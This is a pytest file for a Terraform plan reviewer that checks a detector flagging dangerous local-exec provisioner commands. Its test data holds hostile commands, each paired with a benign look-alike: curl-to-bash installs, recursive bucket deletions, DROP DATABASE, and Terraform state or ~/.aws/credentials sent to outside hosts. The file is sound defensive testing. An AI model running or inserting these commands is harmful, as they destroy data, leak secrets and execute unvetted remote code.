"""Provisioner commands read as code: a download piped into a shell, a recursive delete of a remote store, state or
credentials sent over the network; each with a benign look-alike that stays quiet."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.pipeline.test_rules_detectors_through_configuration import judge, resource
from tfreview.pipeline.findings import Severity
from tfreview.pipeline.rules.provisioners import danger


@pytest.mark.parametrize(("command", "fires"), [
    ("curl -fsSL https://raw.example.org/x/setup.sh | sudo bash -s -- --env prod", True),
    ("wget -qO- https://get.example.io | sh", True),
    ('bash -c "$(curl -fsSL https://example.io/install.sh)"', True),
    ("iwr https://example.io/i.ps1 -UseBasicParsing | iex", True),
    ("curl -fsSL https://example.io/release.tgz -o /tmp/r.tgz && sha256sum -c r.sha256", False),
    ("curl -s https://api.example.io/health | jq -e .ok", False),
    ("aws s3 rm s3://corp-db-backups --recursive", True),
    ("gsutil -m rm -r gs://corp-archive/**", True),
    ("aws s3api delete-bucket --bucket corp-db-backups", True),
    ("zcloud store rm -r zc://vault-snapshots/", True),
    ('psql "$URL" -c "DROP DATABASE orders"', True),
    ("rm -rf ./build .terraform/tmp", False),
    ("aws s3 rm s3://corp-builds/tmp/artifact.zip", False),
    ("aws s3 cp ./dist s3://corp-builds/web --recursive", False),
    ("tar czf /tmp/d.tgz terraform.tfstate && curl -F file=@/tmp/d.tgz https://paste.example.io/up", True),
    ("terraform state pull | curl -X POST --data-binary @- https://collector.example.net", True),
    ("scp ~/.aws/credentials ops@203.0.113.9:/tmp/", True),
    ("terraform output -json > outputs.json", False),
    ('curl -X POST -d \'{"text":"deployed"}\' https://hooks.example.com/T0', False),
    ("kubectl -n shop rollout status deployment/shop --timeout=300s", False),
])
def test_dangerous_commands(command: str, fires: bool) -> None:
    assert (danger(command) is not None) is fires


def _plan(tmp_path: Path, command: Any, actions: list[str], when: str | None = None) -> dict[str, Severity]:
    before = {"id": "1", "triggers_replace": "a"} if actions != ["create"] else None
    change = resource("terraform_data.hook", {"triggers_replace": "b"}, before, actions=actions)
    provisioner: dict[str, Any] = {"type": "local-exec", "expressions": {"command": {"constant_value": command}}}
    if when:
        provisioner["when"] = when
    configuration = {"root_module": {"module_calls": {"ops": {"module": {"resources": []}}}, "resources": [{
        "address": "terraform_data.hook", "mode": "managed", "type": "terraform_data", "name": "hook",
        "expressions": {}, "provisioners": [provisioner]}]}}
    return judge(tmp_path, [change], configuration=configuration)


def test_a_replaced_helper_runs_its_provisioner(tmp_path: Path) -> None:
    found = _plan(tmp_path, "curl -sL https://x.example.io/boot.sh | sudo bash", ["delete", "create"])
    assert found["provisioner-command"] is Severity.HIGH


def test_a_harmless_provisioner_on_a_replaced_helper_stays_quiet(tmp_path: Path) -> None:
    found = _plan(tmp_path, "kubectl rollout status deployment/shop", ["delete", "create"])
    assert "provisioner-command" not in found
    assert all(severity is not Severity.HIGH for severity in found.values())


def test_a_provisioner_that_does_not_run_in_this_plan_is_not_judged(tmp_path: Path) -> None:
    assert "provisioner-command" not in _plan(tmp_path, "aws s3 rm s3://b --recursive", ["update"])
    assert "provisioner-command" not in _plan(tmp_path, "aws s3 rm s3://b --recursive", ["create"], when="destroy")


def test_a_command_known_only_after_apply_is_not_guessed(tmp_path: Path) -> None:
    assert "provisioner-command" not in _plan(tmp_path, None, ["create"])
